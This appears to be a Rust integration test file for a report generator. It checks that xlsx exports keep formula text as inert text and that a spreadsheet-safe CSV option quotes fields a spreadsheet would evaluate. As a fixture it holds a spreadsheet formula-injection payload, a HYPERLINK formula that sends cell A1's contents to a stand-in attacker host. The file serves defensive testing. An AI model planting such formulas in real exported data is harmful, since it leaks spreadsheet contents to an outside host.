//! report.xlsx read back by a real reader (openpyxl, installed by `scripts/setup.sh --for-tests`)
//! equals the CSV reports cell by cell, hostile formula text included; the CSV files stay exact
//! unless `--csv-spreadsheet-safe` asks for a leading `'`; report.md and report.html list the
//! fields a spreadsheet would evaluate.

use crate::support::{rehearse, repo, run_with_parents, stderr};
use rehearse::pg::run_checked;
use rehearse::report::spreadsheet::would_evaluate;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

const HYPERLINK: &str = r#"=HYPERLINK("http://attacker.invalid/?"&A1,"details")"#;
const REPORTS: [&str; 6] =
    ["versions_kept", "versions_deleted", "services_affected", "cascade", "policy_divergence", "hazards"];

/// A run of the generator's database with formula text (`--formula-text`), with `extra` options.
fn formula_run(dir: &Path, name: &str, extra: &[&str]) -> PathBuf {
    let sql = dir.join("formula.sql");
    if !sql.exists() {
        run_checked(
            Command::new("python3")
                .arg(repo().join("fixtures/generate.py"))
                .args(["--formula-text", "--out"])
                .arg(&sql),
            "fixtures/generate.py",
        )
        .unwrap();
    }
    let out = dir.join(name);
    let mut args: Vec<&std::ffi::OsStr> = vec!["run".as_ref(), sql.as_os_str(), "--out".as_ref(), out.as_os_str()];
    args.extend(extra.iter().map(std::ffi::OsStr::new));
    let run = rehearse(&args);
    assert!(run.status.success(), "{}", stderr(&run));
    out
}

/// xlsx_check.py on `run`: its counts, after asserting that the workbook matches.
fn xlsx_check(run: &Path) -> serde_json::Value {
    let check = Command::new("python3")
        .arg(repo().join("tests/integration/xlsx_check.py"))
        .arg(run)
        .output()
        .expect("python3 runs");
    assert!(
        check.status.success(),
        "report.xlsx differs from the CSV files or summary.json (openpyxl: run scripts/setup.sh --for-tests):\n{}",
        stderr(&check)
    );
    serde_json::from_slice(&check.stdout).unwrap()
}

fn records(file: &Path) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(file)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Rows per report file holding a field that a spreadsheet would evaluate.
fn risky_rows(run: &Path) -> BTreeMap<String, usize> {
    REPORTS
        .iter()
        .map(|name| {
            let file = format!("{name}.csv");
            let rows = records(&run.join("reports").join(&file));
            (file, rows[1..].iter().filter(|r| r.iter().any(|f| would_evaluate(f))).count())
        })
        .filter(|(_, n)| *n > 0)
        .collect()
}

#[test]
fn the_workbook_holds_the_csv_rows_and_formula_text_stays_text() {
    let dir = tempfile::tempdir().unwrap();
    let run = formula_run(dir.path(), "run", &[]);
    let counts = xlsx_check(&run);
    let csv_rows: u64 = REPORTS.iter().map(|n| records(&run.join(format!("reports/{n}.csv"))).len() as u64 - 1).sum();
    assert_eq!(counts["rows"].as_u64(), Some(csv_rows), "every row compared: {counts}");
    for kind in ["nulls", "empty_strings", "booleans"] {
        assert!(counts[kind].as_u64().unwrap() > 0, "the fixture exercises {kind}: {counts}");
    }
    // The six release notes and the model_id of every kept or deleted row of that model.
    assert!(counts["formula_strings"].as_u64().unwrap() >= 6 + 7, "{counts}");
    let deleted = std::fs::read_to_string(run.join("reports/versions_deleted.csv")).unwrap();
    assert!(deleted.contains(&format!("\"{}\"", HYPERLINK.replace('"', "\"\""))), "the CSV file is exact");
}

#[test]
fn the_summary_sheet_shows_the_collation_and_the_totals_per_parent() {
    let dir = tempfile::tempdir().unwrap();
    let run = run_with_parents(dir.path());
    let counts = xlsx_check(&run);
    // model_usage (partitioned, nested) and model_tags (an inheritance parent).
    assert!(counts["parents"].as_u64().unwrap() >= 2, "the fixture has totals per parent: {counts}");
}

#[test]
fn reports_list_the_fields_a_spreadsheet_would_evaluate_and_the_safe_csv_quotes_them() {
    let dir = tempfile::tempdir().unwrap();
    let exact = formula_run(dir.path(), "exact", &[]);
    let safe = formula_run(dir.path(), "safe", &["--csv-spreadsheet-safe"]);
    let risky = risky_rows(&exact);
    assert!(risky.contains_key("versions_deleted.csv") && risky.contains_key("versions_kept.csv"), "{risky:?}");

    let markdown = std::fs::read_to_string(exact.join("report.md")).unwrap();
    let html = std::fs::read_to_string(exact.join("report.html")).unwrap();
    let section = markdown.split("## Opening the reports in a spreadsheet").nth(1).expect("markdown section");
    assert!(section.contains("report.xlsx") && section.contains("evaluates these fields as formulas"));
    assert!(html.contains("href=\"report.xlsx\""));
    for (file, rows) in &risky {
        assert!(section.contains(&format!("| `reports/{file}` | {rows} |")), "report.md lists {file} ({rows} rows)");
        assert!(html.contains(&format!("data-file=\"{file}\" data-rows=\"{rows}\"")), "report.html lists {file}");
    }
    let listed = regex::Regex::new(r#"data-file="([^"]+)""#).unwrap();
    assert!(listed.captures_iter(&html).all(|c| risky.contains_key(&c[1])), "no other file is listed");

    let safe_markdown = std::fs::read_to_string(safe.join("report.md")).unwrap();
    assert!(safe_markdown.contains("with a leading `'` (--csv-spreadsheet-safe)"));
    let mut quoted = 0;
    for name in REPORTS {
        let file = format!("reports/{name}.csv");
        let (exact_rows, safe_rows) = (records(&exact.join(&file)), records(&safe.join(&file)));
        assert_eq!(exact_rows.len(), safe_rows.len(), "{file}");
        for (exact_row, safe_row) in exact_rows.iter().zip(&safe_rows) {
            for (e, s) in exact_row.iter().zip(safe_row) {
                if would_evaluate(e) {
                    quoted += 1;
                    assert_eq!(*s, format!("'{e}"), "{file}");
                } else {
                    assert_eq!(s, e, "{file}");
                }
            }
        }
    }
    assert!(quoted >= 13, "{quoted} fields quoted");
    let safe_deleted = std::fs::read_to_string(safe.join("reports/versions_deleted.csv")).unwrap();
    assert!(safe_deleted.contains(&format!("\"'{}\"", HYPERLINK.replace('"', "\"\""))));
    let check =
        Command::new("python3").arg(repo().join("tests/integration/xlsx_check.py")).arg(&safe).output().unwrap();
    assert!(!check.status.success(), "the workbook keeps the exact text, which the safe CSV files do not");
}
